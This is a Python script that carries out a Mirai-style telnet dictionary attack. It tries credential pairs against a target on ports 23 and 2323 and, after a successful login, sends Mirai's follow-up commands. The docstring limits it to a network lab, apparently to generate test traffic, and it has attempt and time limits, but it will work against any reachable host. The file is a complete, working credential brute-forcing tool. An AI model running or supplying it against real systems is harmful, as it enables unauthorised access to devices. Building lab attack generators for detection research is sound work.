#!/usr/bin/env python3
"""Mirai-style telnet dictionary attack, for the network lab only (scripts/lab/net-lab.sh).

One TCP connection per credential pair, like Mirai's scanner: connect, wait for the login
prompt, send the user, wait for the password prompt, send the password, read the answer.
"Login incorrect" (or the connection closing) is a failure; a shell prompt is a success,
after which it sends Mirai's follow-up (enable, system, shell, sh, /bin/busybox MIRAI),
an `echo`, and `exit`. Telnet option negotiation is refused (DO -> WONT, WILL -> DONT).
Port per attempt: 23, or 2323 with probability --p2323 (Mirai: 1 in 10), seeded.

Stdlib only (socket); no telnetlib. Bounded: at most --max-attempts connections and
--max-seconds of wall time; every read has a timeout. Stops at the first success unless
--keep-going. One line per attempt on stdout:
    <unix time>\t<port>\t<user>\t<password>\t<result>
Exit status 0 if a pair worked, 1 if none did, 2 on bad usage.
"""
import argparse
import random
import socket
import sys
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240


class Telnet:
    def __init__(self, host, port, timeout):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.timeout = timeout
        self.buf = b""  # text received, IAC sequences removed
        self.pending = b""  # undecoded tail (an IAC sequence split across reads)
        self.closed = False

    def _feed(self, data):
        data = self.pending + data
        self.pending = b""
        out = bytearray()
        replies = bytearray()
        i = 0
        while i < len(data):
            b = data[i]
            if b != IAC:
                out.append(b)
                i += 1
                continue
            if i + 1 >= len(data):
                self.pending = data[i:]
                break
            cmd = data[i + 1]
            if cmd == IAC:  # escaped 255
                out.append(IAC)
                i += 2
            elif cmd in (DO, DONT, WILL, WONT):
                if i + 2 >= len(data):
                    self.pending = data[i:]
                    break
                opt = data[i + 2]
                if cmd == DO:
                    replies += bytes([IAC, WONT, opt])
                elif cmd == WILL:
                    replies += bytes([IAC, DONT, opt])
                i += 3
            elif cmd == SB:  # skip the subnegotiation up to IAC SE
                end = data.find(bytes([IAC, SE]), i + 2)
                if end < 0:
                    self.pending = data[i:]
                    break
                i = end + 2
            else:  # NOP, GA, ... : two bytes
                i += 2
        if replies:
            self.sock.sendall(bytes(replies))
        self.buf += bytes(out)

    def read_until(self, needles, timeout):
        """Reads until one of needles (bytes, lower-cased match) appears; returns its index or -1."""
        deadline = time.monotonic() + timeout
        while True:
            low = self.buf.lower()
            for k, n in enumerate(needles):
                if n in low:
                    cut = low.index(n) + len(n)
                    self.buf = self.buf[cut:]
                    return k
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return -1
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(4096)
            except socket.timeout:
                return -1
            except OSError:
                self.closed = True
                return -1
            if not data:
                self.closed = True
                continue
            self._feed(data)

    def send_line(self, text):
        self.sock.sendall(text.encode("latin-1") + b"\r\n")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def load_pairs(path):
    pairs = []
    with open(path, encoding="utf-8") as f:
        for lineno, line in enumerate(f, 1):
            line = line.rstrip("\n")
            if not line or line.startswith("#"):
                continue
            if "\t" not in line:
                sys.exit(f"telnet_dict: {path}:{lineno}: expected USER<TAB>PASSWORD")
            user, password = line.split("\t", 1)
            pairs.append((user, password))
    if not pairs:
        sys.exit(f"telnet_dict: {path}: no credential pairs")
    return pairs


def attempt(host, port, user, password, timeout):
    t = Telnet(host, port, timeout)
    try:
        if t.read_until([b"login:", b"username:", b"user:"], timeout) < 0:
            return "no-login-prompt"
        t.send_line(user)
        if t.read_until([b"password:"], timeout) < 0:
            return "no-password-prompt"
        t.send_line(password)
        k = t.read_until([b"incorrect", b"failed", b"denied", b"# ", b"$ ", b"> "], timeout)
        if k < 0:
            return "no-answer"
        if k < 3:
            return "fail"
        # Mirai's follow-up after a login, then a harmless echo
        for cmd in ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]:
            t.send_line(cmd)
            t.read_until([b"# ", b"$ ", b"> "], timeout)
        t.send_line("echo mamori-lab-" + user)
        t.read_until([b"# ", b"$ ", b"> "], timeout)
        t.send_line("exit")
        t.read_until([b"\x00never"], 0.5)
        return "success"
    finally:
        t.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("target", help="IPv4 address of the telnet server")
    ap.add_argument("--creds", required=True, help="file of USER<TAB>PASSWORD lines")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--p2323", type=float, default=0.1, help="probability of port 2323 per attempt")
    ap.add_argument("--timeout", type=float, default=5.0, help="per read, seconds")
    ap.add_argument("--delay", type=float, default=0.2, help="mean pause between attempts, seconds")
    ap.add_argument("--max-attempts", type=int, default=100)
    ap.add_argument("--max-seconds", type=float, default=180.0)
    ap.add_argument("--skip", type=int, default=0, help="start at this index of the list")
    ap.add_argument("--keep-going", action="store_true", help="do not stop at the first success")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    pairs = load_pairs(a.creds)[a.skip:]
    start = time.monotonic()
    found = False
    for n, (user, password) in enumerate(pairs):
        if n >= a.max_attempts or time.monotonic() - start > a.max_seconds:
            break
        port = 2323 if rng.random() < a.p2323 else 23
        t0 = time.time()
        try:
            result = attempt(a.target, port, user, password, a.timeout)
        except OSError as e:
            result = "error:" + type(e).__name__
        print(f"{t0:.6f}\t{port}\t{user}\t{password}\t{result}", flush=True)
        if result == "success":
            found = True
            if not a.keep_going:
                break
        time.sleep(a.delay * rng.uniform(0.5, 1.5))
    return 0 if found else 1


if __name__ == "__main__":
    sys.exit(main())
